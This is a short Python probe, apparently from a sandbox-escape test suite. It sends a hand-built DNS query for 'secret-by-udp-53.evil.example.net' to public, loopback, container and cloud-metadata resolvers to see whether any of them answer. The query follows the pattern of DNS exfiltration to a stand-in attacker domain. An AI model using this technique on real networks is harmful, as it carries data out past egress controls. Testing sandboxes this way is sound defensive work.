"""Sends a question for a name by UDP to resolvers: the host's, public ones, an engine's, the ones on loopback."""
# outside: escapes

import socket
import struct

from attempt import FACTS, attempt, every

QUESTION = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x10secret-by-udp-53\x04evil\x07example\x03net\0" + struct.pack(">HH", 1, 1)


def ask(address):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        sock.connect((address, 53))
        sock.send(QUESTION)
        return f"{address} answered {len(sock.recv(2048))} octets"


@attempt
def main():
    addresses = (
        *FACTS["address"]["resolver"],
        "1.1.1.1",
        "8.8.8.8",
        "127.0.0.1",
        "127.0.0.11",
        "127.0.0.53",
        "::1",
        "172.17.0.1",
        "169.254.169.254",
    )
    return every([lambda address=address: ask(address) for address in addresses])
